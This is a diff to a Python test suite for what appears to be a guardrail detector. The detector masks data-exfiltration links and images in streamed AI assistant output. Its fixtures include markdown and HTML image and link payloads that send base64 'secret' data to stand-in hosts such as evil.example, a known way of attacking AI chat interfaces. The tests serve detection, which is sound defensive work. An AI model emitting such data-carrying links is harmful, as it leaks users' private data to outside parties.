@@ -21,11 +21,32 @@ GATE = open_gate(DETECTOR.expressions)
 DATA = "c2VjcmV0" * 4
 CARRYING = f"![x](https://evil.example/p.png?d={DATA})"
 PIECES = st.sampled_from(
-    ["![", "[", "]", "(", ")", "](", "]:", " ", "\n", "!", "\\", "<", "<img src=", "<a href='", "src", '="', ">", "a",
+    ["![", "[", "]", "(", ")", "](", "]:", " ", "\n", "!", "\\", "<", "<img src=", "<a href='", "</a", "<a ",
+     "<b>", "</", "z" * 199, "src", '="', ">", "a",
      "http", "s://", "//e.x/?q=", "https://evil.example/p?d=" + DATA, DATA, "é", "\ud800", "x" * 290, "y" * 1990,
      CARRYING]
 )  # fmt: skip
 TEXTS = st.lists(PIECES, max_size=14).map("".join)
+TAGS = st.lists(
+    st.sampled_from(
+        [
+            "<a ",
+            "<a",
+            "</a>",
+            "</a",
+            "<",
+            ">",
+            "href=//e.x/?d=" + DATA,
+            'href="//e.x/p"',
+            "<b>",
+            '"',
+            " ",
+            "z" * 199,
+            "x" * 99,
+        ]
+    ),
+    max_size=12,
+).map("".join)
 
 
 def find(text: str, trusted: tuple[str, ...] = ()) -> list[Match]:
@@ -54,6 +75,38 @@ def test_addresses_that_carry_data(answer: str, rule: str, score: float) -> None
     assert rule in RULES
 
 
+MASKED = "<DATA_EXFILTRATION>"
+
+
+@pytest.mark.parametrize(
+    ("answer", "masked"),
+    [
+        (f'a <img src="https://e.example/p?d={DATA}"> b', f"a {MASKED} b"),
+        (f"a <img src='https://e.example/p?d={DATA}' alt='x' /> b", f"a {MASKED} b"),
+        (f"a <img src=https://e.example/p?d={DATA}> b", f"a {MASKED} b"),
+        (f'a <a class="l" href="https://e.example/p?d={DATA}" rel=x>see <b>here</b></a> b', f"a {MASKED} b"),
+        (f'<a href="https://e.example/p?d={DATA}">see</A > b', f"{MASKED} b"),
+        (f'<a href="https://e.example/p?d={DATA}">{"x" * 300}</a>', MASKED),
+        (f'<a href="https://e.example/p?d={DATA}">{"x" * 301}</a>', f"{MASKED}{'x' * 301}</a>"),
+        (f'<a href="https://e.example/p?d={DATA}">see <a href="/">there</a>', f'{MASKED}see <a href="/">there</a>'),
+        (f'<img src="https://e.example/p?d={DATA}" {"x" * 300}>', f'{MASKED}" {"x" * 300}>'),
+        (f'<img src="https://e.example/p?d={DATA}" <b>', f'{MASKED}" <b>'),
+        (f'<img src="https://e.example/p?d={DATA}', MASKED),
+    ],
+)
+def test_what_is_masked_leaves_no_half_of_a_tag(answer: str, masked: str) -> None:
+    """Nor half of a link: both end where they end. Streamed in any pieces the same."""
+    policy = Policy("p", (Rule(id="r", detector="exfiltration", action="mask", mode="enforce"),))
+    engine = PolicyEngine([policy], Scanner([DETECTOR], gate=open_gate), key=b"k")
+    verdict = engine.inspect([Segment("t", "assistant", answer)], "response")
+    assert [each.text for each in verdict.rewrites] == [masked]
+    for size in (1, 7):
+        stream = engine.stream()
+        assert stream is not None
+        out = [stream.feed("t", answer[at : at + size]) for at in range(0, len(answer), size)]
+        assert "".join([*out, stream.flush("t")]) == masked
+
+
 @pytest.mark.parametrize(
     "answer",
     ["[docs](https://docs.example/page?id=5)", "https://e.example/?q=plain", "![x](/local.png)", "a[0](b) // c"],
@@ -69,13 +122,13 @@ def test_trusted_hosts() -> None:
     assert find("![a](https://firm.example@evil.example/p?q=one+two)", ("firm.example",))
 
 
-@given(TEXTS, st.data())
+@given(TEXTS | TAGS, st.data())
 def test_a_stream_may_count_on_what_is_settled(text: str, data: st.DataObject) -> None:
     """`guardrails/detector.py`, *Stability*: the matches that start before `settled(text)` are as they will be."""
     check_stability(DETECTOR, GATE, text, data.draw(st.integers(0, len(text))))
 
 
-@given(TEXTS)
+@given(TEXTS | TAGS)
 def test_a_match_depends_on_its_reach_alone(text: str) -> None:
     """`guardrails/detector.py`, *Locality*."""
     check_locality(DETECTOR, GATE, text, margin=1)
@@ -104,9 +157,15 @@ BLANKS, LABEL = r"[ \t\r\n]{0,4}", r"(?:[^\[\]\n\\]|\\[^\n]){0,300}+"
 BEGUN = re.compile(r"!?\[|<|!\Z")
 MAY_GO_ON = re.compile(
     rf"!|!?\[{LABEL}(?:\\|\](?:[(:]{BLANKS}<?(?:h(?:t(?:t(?:p(?:s?(?::/?)?)?)?)?)?|/|(?:https?:)?//[^\s)<>]{{0,2000}}+>?)?)?)?"
-    r"|<(?:im?|(?:img|a)(?:\b[^>]{0,2222}+)?)?",
+    r"|<(?:im?|(?:img|a)(?:\b[^>]{0,2427}+)?)?",
     re.IGNORECASE,
 )
+LABELLED = re.compile(
+    rf"<a\b(?>[^>]{{0,200}}?\bhref{BLANKS}={BLANKS}[\"']?(?:https?:)?//[^\s\"'<>]{{1,2000}}+)[\"']?[^<>]{{0,200}}+>"
+    rf"(?:[^<]|<(?!/?a\b)){{0,300}}+(?:<(?:/?(?:a{BLANKS})?)?)?",
+    re.IGNORECASE,
+)
+"""A link whose tag is over, and its label not."""
 SYNTAX = st.lists(
     st.sampled_from(
         ["[", "!", "\\", "]", "(", ":", "//", "http:", "\n", " ", "<", ">", "img", "a", ")", "x" * 299, "\\]", "\\["]
@@ -115,17 +174,36 @@ SYNTAX = st.lists(
 ).map("".join)
 
 
-@given(TEXTS | SYNTAX)
+@given(TEXTS | SYNTAX | TAGS)
 def test_nothing_is_held_but_what_may_become_an_image_or_a_link(text: str) -> None:
     """Said once more, bracket by bracket: the first from which everything to the end may be the beginning of one."""
     starts = [begun.start() for begun in BEGUN.finditer(text, max(0, len(text) - DETECTOR.reach.length))]
-    assert DETECTOR.settled(text) == next((at for at in starts if MAY_GO_ON.fullmatch(text, at)), len(text))
+    links = {match.start for match in find(text)}
+    first = (at for at in starts if MAY_GO_ON.fullmatch(text, at) or (at in links and LABELLED.fullmatch(text, at)))
+    assert DETECTOR.settled(text) == next(first, len(text))
 
 
-@pytest.mark.parametrize("bait", ["\\[", "\\[\\](", "\\[a", "[](//", "<img ", "[", "<", "[](   ", "\\[\\[[](// "])
+@pytest.mark.parametrize(
+    "bait",
+    [
+        "\\[",
+        "\\[\\](",
+        "\\[a",
+        "[](//",
+        "<img ",
+        "[",
+        "<",
+        "[](   ",
+        "\\[\\[[](// ",
+        "<a ",
+        "<a href=//e?d=" + DATA,
+        "<a href=//e?d=" + DATA + ">",
+        "<a <a href=//e?d=" + DATA + ">b",
+    ],
+)
 def test_bait_costs_little(bait: str) -> None:
     """A piece of a stream is looked at in time linear in what is held: it took thirty times as long."""
-    text = (bait * 2600)[:2600] + " x>"
+    text = (bait * 2700)[:2700] + " x>"
     assert min(timeit.repeat(lambda: DETECTOR.settled(text), number=1, repeat=5)) < 0.005
 
 
